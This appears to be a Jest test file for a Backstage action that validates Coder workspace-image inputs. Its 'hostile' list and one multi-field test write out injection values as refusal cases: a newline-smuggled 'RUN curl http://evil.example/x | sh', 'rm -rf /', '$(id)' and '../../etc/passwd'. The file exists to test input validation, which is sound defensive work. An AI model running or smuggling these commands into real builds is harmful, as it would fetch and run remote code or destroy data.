import { InputError } from '@backstage/errors';
import { createWorkspaceImageValidateAction } from './workspaceImageValidate';
import { mockContext } from '../cluster/__testUtils__/context';
import { workspaceOptions } from './__testUtils__/clusterCatalog';

const valid = {
  name: 'java-training',
  description: 'Java 21 and Maven',
  owner: 'group:default/developers',
  baseImage: 'ubuntu:24.04',
  packages: ['git', 'openjdk-21-jdk', 'g++', 'libc6.1'],
  extensions: ['vscjava.vscode-java-pack', 'GitHub.copilot'],
  cpu: 1.5,
  memoryGib: 8,
  homeDiskGib: 20,
  docker: true,
  backup: true,
  backupCron: '15 */2 * * 1-5',
  ttlHours: 8,
  cluster: 'resource:default/dev-eu1',
  repoUrl: 'github.com?owner=Acme&repo=java-training',
};

const action = createWorkspaceImageValidateAction(workspaceOptions());

async function run(input: Record<string, unknown>) {
  const ctx = mockContext(input);
  await action.handler(ctx as any);
  return Object.fromEntries(ctx.output.mock.calls);
}

async function refusal(input: Record<string, unknown>): Promise<InputError> {
  const ctx = mockContext(input);
  const error = await action.handler(ctx as any).then(
    () => undefined,
    e => e,
  );
  expect(error).toBeInstanceOf(InputError);
  expect(ctx.output).not.toHaveBeenCalled();
  return error;
}

describe('coder-platform:workspace-image:validate', () => {
  it('outputs the values, the image and the Coder template variables', async () => {
    expect(await run(valid)).toEqual({
      name: 'java-training',
      description: 'Java 21 and Maven',
      owner: 'group:default/developers',
      baseImage: 'ubuntu:24.04',
      packages: ['git', 'openjdk-21-jdk', 'g++', 'libc6.1'],
      extensions: ['vscjava.vscode-java-pack', 'GitHub.copilot'],
      cluster: 'dev-eu1',
      clusterEntityRef: 'resource:default/dev-eu1',
      clusterTarget: 'dev-eu1',
      resticRepositoryPrefix: 'gs:acme-coder-backups:/coder/dev-eu1',
      repoOwner: 'Acme',
      image: 'ghcr.io/acme/java-training:latest',
      imageRepository: 'ghcr.io/acme/java-training',
      registryHost: 'ghcr.io',
      coderTemplateName: 'java-training',
      defaultTtlMs: 8 * 3_600_000,
      coderVariables: {
        image: 'ghcr.io/acme/java-training:latest',
        cpu: 1.5,
        memory_gib: 8,
        home_disk_gib: 20,
        vscode_extensions: 'vscjava.vscode-java-pack,GitHub.copilot',
        docker_enabled: true,
        backup_enabled: true,
        backup_cron: '15 */2 * * 1-5',
      },
    });
  });

  it('takes a registry of its own, and no cron when backup is off', async () => {
    const out = await run({
      ...valid,
      backup: false,
      backupCron: undefined,
      packages: undefined,
      extensions: [],
      description: undefined,
      imageRegistry: 'registry.example.com:5000/workspaces',
    });
    expect(out.image).toBe(
      'registry.example.com:5000/workspaces/java-training:latest',
    );
    expect(out.registryHost).toBe('registry.example.com:5000');
    expect(out.packages).toEqual([]);
    expect(out.coderVariables).toMatchObject({
      backup_enabled: false,
      vscode_extensions: '',
    });
  });

  it.each([
    'ubuntu',
    'ubuntu:24.04',
    'debian:bookworm-slim',
    'ghcr.io/acme/base:1.2.3',
    'localhost:5000/base',
    'mcr.microsoft.com/devcontainers/base:ubuntu-24.04',
    `ubuntu@sha256:${'a'.repeat(64)}`,
  ])('accepts the base image %s', async baseImage => {
    expect((await run({ ...valid, baseImage })).baseImage).toBe(baseImage);
  });

  const hostile = [
    'x\nRUN curl http://evil.example/x | sh',
    'x; rm -rf / #',
    'x && curl evil',
    '$(id)',
    '`id`',
    'x|sh',
    'a'.repeat(10_240),
    'ünïcödé',
    '../../etc/passwd',
    'x\r\ny',
    "x' y",
    'x"y',
    'x\ty',
    'x\u0000y',
  ];
  const fields: Array<[string, (v: string) => Record<string, unknown>]> = [
    ['name', v => ({ name: v })],
    ['description', v => ({ description: v })],
    ['owner', v => ({ owner: v })],
    ['baseImage', v => ({ baseImage: v })],
    ['packages[1]', v => ({ packages: ['git', v] })],
    ['extensions[0]', v => ({ extensions: [v] })],
    ['backupCron', v => ({ backupCron: v })],
    ['cluster', v => ({ cluster: v })],
    ['repoUrl', v => ({ repoUrl: v })],
    ['imageRegistry', v => ({ imageRegistry: v })],
  ];
  it.each(
    fields.flatMap(([field, make]) =>
      hostile
        // prose may name a path; it is never used as one
        .filter(value => field !== 'description' || !value.startsWith('../'))
        .map(
          value =>
            [field, JSON.stringify(value).slice(0, 30), make(value)] as const,
        ),
    ),
  )('refuses %s = %s naming the field', async (field, _shown, patch) => {
    const error = await refusal({ ...valid, ...patch });
    expect(error.message).toContain(`${field}: `);
    // the refused value is never echoed raw: no newline, at most a preview
    expect(error.message).not.toContain('\n');
    expect(error.message).not.toContain('\r');
    expect(error.message).not.toContain(String.fromCharCode(0));
    expect(error.message.length).toBeLessThan(600);
  });

  it('names every refused field at once', async () => {
    const error = await refusal({
      ...valid,
      name: 'Bad Name',
      baseImage:
        'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
      packages: ['curl; rm -rf / #'],
      cpu: 100,
    });
    expect(error.message).toMatch(
      /name: .*baseImage: .*packages\[0\]: .*cpu: /,
    );
    expect(error.message).toContain('before anything was rendered');
  });

  it.each([
    [{ cpu: 0.25 }, 'cpu: 0.25 is not a multiple of 0.5'],
    [{ cpu: 1.7 }, 'cpu: 1.7 is not a multiple of 0.5'],
    [{ cpu: '2' }, 'cpu: "2" is not a number'],
    [{ memoryGib: 0 }, 'memoryGib: 0 is not a whole number'],
    [{ memoryGib: 2.5 }, 'memoryGib: 2.5 is not a whole number'],
    [{ homeDiskGib: 501 }, 'homeDiskGib: 501 is not'],
    [{ ttlHours: Number.NaN }, 'ttlHours: '],
    [{ docker: 'yes' }, 'docker: "yes" is not true or false'],
    [{ backupCron: undefined }, 'backupCron: is required'],
    [
      { backupCron: '61 * * * *' },
      'backupCron: minute field "61" is outside 0-59',
    ],
    [
      { backupCron: '0 5-2 * * *' },
      'backupCron: hour field "5-2" has a range that runs backwards',
    ],
    [
      { backupCron: '*/0 * * * *' },
      'backupCron: minute field "*/0" has a step of 0',
    ],
    [
      { backupCron: '* * * *' },
      'backupCron: "* * * *" is not a five-field cron',
    ],
    [{ packages: ['git', 'git'] }, 'packages[1]: "git" is listed twice'],
    [{ packages: 'git curl' }, 'packages: must be a list'],
    [
      { extensions: Array.from({ length: 31 }, (_, i) => `p.e${i}`) },
      'extensions: at most 30 entries',
    ],
    [
      { extensions: ['ms-python'] },
      'extensions[0]: "ms-python" is not a VS Code extension id',
    ],
    [{ name: 'ab' }, 'name: "ab" is not a name of 3-32'],
    [{ name: 'a'.repeat(33) }, 'name: '],
    [
      { baseImage: `${'a'.repeat(250)}:latest` },
      'is longer than 255 characters',
    ],
    [
      { baseImage: 'Ubuntu:24.04' },
      'baseImage: "Ubuntu:24.04" is not an image reference',
    ],
    [{ repoUrl: 'github.com?owner=a&repo=b&x=1' }, 'repoUrl: '],
    [{ name: undefined }, 'name: is required'],
  ])('refuses %j: %s', async (patch, message) => {
    const error = await refusal({ ...valid, ...patch });
    expect(error.message).toContain(message);
  });

  it('shows a 10 kB value as a short escaped preview with its length', async () => {
    const error = await refusal({ ...valid, baseImage: 'x'.repeat(10_240) });
    expect(error.message).toContain(`"${'x'.repeat(40)}…" (10240 characters)`);
  });
});
